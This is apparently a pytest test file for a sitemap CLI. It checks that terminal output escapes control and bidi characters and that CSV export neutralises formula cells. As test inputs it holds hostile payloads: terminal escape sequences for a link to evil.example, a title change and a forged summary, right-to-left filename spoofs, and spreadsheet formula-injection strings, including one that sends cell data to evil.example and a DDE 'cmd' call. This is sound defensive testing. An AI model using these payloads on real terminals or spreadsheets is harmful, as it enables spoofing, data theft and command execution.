"""core/escape: what reaches a terminal shows its control and bidi characters; CSV cells are no formulas.

The CLI tests run the real commands (a subprocess, so stdout and stderr are told apart) on crafted
sitemaps, from a file and from a real HTTP server on loopback, and look at the bytes that come out."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from sitemapkit.cli import main
from sitemapkit.core.diagnostics import Diagnostic, printable
from sitemapkit.core.escape import csv_cell, for_terminal
from sitemapkit.core.model import UrlEntry
from sitemapkit.reader.export import entry_to_row, write_csv
from sitemapkit.reader.runs import UrlRun
from tests.support.localserver import LocalServer

# What must never reach a terminal raw: C0 (but nothing: LF ends our own lines, checked apart), DEL, C1,
# the bidi controls and the line/paragraph separators.
DANGER = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")

HYPERLINK = "\x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
TITLE = "\x1b]0;pwned\x07"
FORGED = "1 file, 5 URLs: 0 errors, 0 warnings"
ERASE = "\x1b[2K\r" + FORGED

TEXT_SITEMAP = (
    "https://e.com/ok\n"
    f"https://e.com/a{HYPERLINK}\n"
    f"https://e.com/b{TITLE}\n"
    f"https://e.com/c{ERASE}\n"
    "https://e.com/\u202elmth.exe\n"
).encode()

XML_SITEMAP = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
    "<url><loc>https://e.com/ok</loc></url>\n"
    f"<url><loc>https://e.com/c&#10;{FORGED}&#13;&#x9b;2K</loc></url>\n"
    "<url><loc>https://e.com/\u202egpj.exe</loc></url>\n"
    "<url><loc>https://e.com/d&#x85;&#x2028;x</loc></url>\n"
    "</urlset>\n"
).encode()


def cli(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "sitemapkit", *args],
        input=stdin.decode() if stdin is not None else None,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=120,
    )


def assert_safe(text: str) -> None:
    found = DANGER.findall(text)
    assert not found, f"raw {found!r} reached the terminal:\n{text}"


def assert_no_forged_summary(out: str) -> None:
    """The forged `0 errors` summary never starts a line of its own (after LF, or after a CR that would
    move the cursor back)."""
    for line in re.split("[\r\n]", out):
        assert not line.startswith(FORGED), out


# -- for_terminal and csv_cell ---------------------------------------------------------------------------


def test_for_terminal_shows_every_control_as_an_escape() -> None:
    assert for_terminal("a\x1bb\nc\rd\te\x7ff\x85g\x9bh") == "a\\x1bb\\nc\\rd\\te\\x7ff\\x85g\\x9bh"
    assert for_terminal("\x00\x07\x08\x0b\x0c\x1f") == "\\x00\\x07\\x08\\x0b\\x0c\\x1f"
    bidi = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029"
    assert for_terminal(bidi) == "".join(f"\\u{ord(c):04x}" for c in bidi)
    assert for_terminal("caf\udce9") == "caf\\xe9"  # an undecodable byte of a file name
    assert for_terminal("\ud800") == "\\ud800"
    assert for_terminal("héllo wörld — 日本") == "héllo wörld — 日本"  # printable non-ASCII kept
    assert not DANGER.search(for_terminal("".join(map(chr, range(0x00, 0xA0)))))


def test_for_terminal_is_cheap_and_idempotent_on_printable_text() -> None:
    text = "https://example.com/a?b=c#d"
    assert for_terminal(text) is text
    once = for_terminal(HYPERLINK + ERASE + "\u202e")
    assert for_terminal(once) == once


def test_for_terminal_caps_in_the_middle() -> None:
    long = "a" * 500 + "\x1b" + "b" * 500
    shown = for_terminal(long, 100)
    assert shown.startswith("a" * 80) and shown.endswith("b" * 20)
    assert "[901 characters left out]" in shown and "\x1b" not in shown
    assert for_terminal("short", 100) == "short"
    assert printable("x\x1b" * 1000).count("characters left out") == 1  # printable is for_terminal, capped


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil/","x")', '\'=HYPERLINK("http://evil/","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("https://e.com/=x", "https://e.com/=x"),
        ("", ""),
        ("-", "-"),
    ],
)
def test_csv_cell(value: str, cell: str) -> None:
    assert csv_cell(value) == cell


def test_a_diagnostic_keeps_its_url_but_prints_safely() -> None:
    url = f"https://e.com/a{HYPERLINK}"
    d = Diagnostic.make("invalid-url", f"bad {url}", url=url, source=f"s{TITLE}.xml")
    assert d.url == url  # the entry's identity, for the validator and for JSON
    assert_safe(str(d))
    assert "\\x1b]8;;" in d.message and "\\x07" in (d.source or "")


# -- the commands ----------------------------------------------------------------------------------------


def test_validate_text_report_escapes_urls_excerpts_and_cannot_be_forged(tmp_path: Path) -> None:
    for name, body in (("s.txt", TEXT_SITEMAP), ("s.xml", XML_SITEMAP)):
        path = tmp_path / name
        path.write_bytes(body)
        run = cli("validate", str(path))
        assert run.returncode == 1
        assert_safe(run.stdout)
        assert_safe(run.stderr)
        assert_no_forged_summary(run.stdout)
        assert "\\x1b]8;;http://evil.example/" in run.stdout or name == "s.xml"
        assert "\\u202e" in run.stdout
        assert re.search(r"^1 file, \d URLs: [1-9]\d* errors", run.stdout, re.M), run.stdout


def test_validate_over_http_escapes_and_json_keeps_the_raw_url(server: LocalServer) -> None:
    server.route("/s.txt", TEXT_SITEMAP, headers={"Content-Type": "text/plain"})
    server.route("/s.xml", XML_SITEMAP, headers={"Content-Type": "application/xml"})
    for path in ("/s.txt", "/s.xml"):
        run = cli("validate", server.url(path))
        assert run.returncode == 1
        assert_safe(run.stdout + run.stderr)
        assert_no_forged_summary(run.stdout)
    assert [r.path for r in server.requests].count("/s.txt") == 1
    run = cli("validate", server.url("/s.txt"), "--format", "json")
    data = json.loads(run.stdout)
    urls = {d["url"] for d in data["diagnostics"]}
    assert f"https://e.com/a{HYPERLINK}" in urls  # JSON escapes it; the value is the URL as read


def test_parse_diagnostics_and_tree_are_escaped(tmp_path: Path, server: LocalServer) -> None:
    server.route("/s.txt", TEXT_SITEMAP, headers={"Content-Type": "text/plain"})
    server.route("/s.xml", XML_SITEMAP, headers={"Content-Type": "application/xml"})
    index = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n'
        f"<sitemap><loc>{server.url('/s.txt')}</loc></sitemap>\n"
        f"<sitemap><loc>{server.url('/s.xml')}</loc></sitemap>\n"
        f"<sitemap><loc>{server.url('/gone')}\u202e&#x9b;x.xml</loc></sitemap>\n"
        "</sitemapindex>\n"
    )
    server.route("/index.xml", index.encode(), headers={"Content-Type": "application/xml"})
    run = cli("parse", server.url("/index.xml"))
    assert run.returncode == 0, run.stderr
    assert_safe(run.stderr)
    assert_no_forged_summary(run.stderr)
    assert "\\x1b]0;pwned\\x07" in run.stderr
    tree = cli("parse", server.url("/index.xml"), "--sitemaps")
    assert_safe(tree.stdout + tree.stderr)
    # the child's name, escaped, in the tree (stdout) and in its diagnostics (stderr)
    assert (
        "\\u202e\\x9bx.xml  -  404" in tree.stdout and "\\u202e\\x9bx.xml: error [http-error]" in tree.stderr
    )
    path = tmp_path / "s.txt"
    path.write_bytes(TEXT_SITEMAP)
    local = cli("parse", str(path), "--format", "csv")
    assert_safe(local.stderr)
    assert_no_forged_summary(local.stderr)


def test_generate_and_robots_escape_what_they_echo(tmp_path: Path) -> None:
    urls = tmp_path / "urls.txt"
    urls.write_text(f"https://e.com/a\nhttps://e.com/b{TITLE}\nhttps://e.com/c{ERASE}\n")
    run = cli("generate", str(urls), "--base-url", "https://e.com/", "--out", str(tmp_path / "out"))
    assert run.returncode == 0, run.stderr
    assert "\\x1b[2K\\r1 file" in run.stderr  # the bad line, shown
    assert_safe(run.stdout + run.stderr)
    robots = tmp_path / "robots.txt"
    robots.write_text(f"User-agent: *\nDisallow: /x{HYPERLINK}\n")
    run = cli("robots", "--robots", str(robots), "--sitemap", "https://e.com/sitemap.xml", "--dry-run")
    assert run.returncode == 0, run.stderr
    assert_safe(run.stdout + run.stderr)
    assert "\\x1b]8;;" in run.stdout


def test_cli_runner_sees_no_raw_escape_either(tmp_path: Path) -> None:
    path = tmp_path / "s.txt"
    path.write_bytes(TEXT_SITEMAP)
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code == 1
    assert_safe(result.output)


# -- CSV -------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_write_csv_neutralises_formula_cells_on_every_path() -> None:
    plain = UrlEntry(FORMULA, sitemap="@SUM(1)", changefreq="+daily")
    rich = UrlEntry(FORMULA, sitemap="-1+2", images=())
    run = UrlRun("=cmd|' /C calc'!A0")
    run.locs = ["https://e.com/a", FORMULA]
    run.lastmods = [None, None]
    run.changefreqs = [None, None]
    run.priorities = [None, -0.5]
    out = io.StringIO()
    write_csv([plain, rich, run], out)
    rows = read_csv(out.getvalue())[1:]
    assert rows[0][0] == "'" + FORMULA and rows[0][2] == "'+daily" and rows[0][8] == "'@SUM(1)"
    assert rows[1][0] == "'" + FORMULA and rows[1][8] == "'-1+2"
    assert rows[2][0] == "https://e.com/a" and rows[3][0] == "'" + FORMULA
    assert rows[3][3] == "-0.5"  # a number stays a number
    assert rows[3][8] == "'=cmd|' /C calc'!A0"
    for row in rows:
        assert not row[0].startswith(("=", "+", "-", "@")) and not row[8].startswith(("=", "+", "@"))
    # the same text csv.writer gives over entry_to_row, entry by entry
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\n").writerow(entry_to_row(plain))
    assert out.getvalue().splitlines()[1] == expected.getvalue().rstrip("\n")


def test_parse_csv_neutralises_a_formula_sitemap_name(tmp_path: Path) -> None:
    """A sitemap named like a formula (its path is the `sitemap` column; a URL can't begin so)."""
    name = '=HYPERLINK("http:evil")'
    (tmp_path / name).write_bytes(TEXT_SITEMAP.splitlines()[0] + b"\n")
    run = subprocess.run(
        [sys.executable, "-m", "sitemapkit", "parse", name, "--format", "csv", "-o", "out.csv"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 0, run.stderr
    rows = read_csv((tmp_path / "out.csv").read_text())
    assert rows[1][0] == "https://e.com/ok" and rows[1][8] == "'" + name
    tree = subprocess.run(
        [sys.executable, "-m", "sitemapkit", "parse", name, "--sitemaps", "--format", "csv"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert read_csv(tree.stdout)[1][1] == "'" + name
